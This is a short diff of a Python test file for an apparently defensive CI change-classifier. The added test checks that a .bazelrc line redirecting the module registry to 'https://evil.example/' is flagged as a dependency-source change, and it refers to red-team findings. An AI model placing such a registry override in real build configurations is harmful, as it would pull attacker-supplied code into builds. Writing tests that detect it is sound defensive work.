@@ -93,3 +93,9 @@ def test_a_script_a_quoted_whole_option_runs_is_ci(tmp_path: Path, form: str) ->
     case = committed(tmp_path, base, {"tools/st.sh": f"#!/bin/sh\n{FETCH}\n"})
     code, named = gated_rules(case, True)
     assert code == 3 and named.get("core.ci") == ["tools/st.sh"], named  # before: src, exit 0
+
+
+def test_a_quoted_whole_module_source_line_is_deps() -> None:
+    """The same quoting for the module-source lines (red team 17's reader): `other` on e3004c0, added with the fix."""
+    shape = platform_shape(".bazelrc", 'common "--registry=https://evil.example/"\n')
+    assert shape is not None and shape[:2] == ("deps", "deps.content.bazel-module-source")
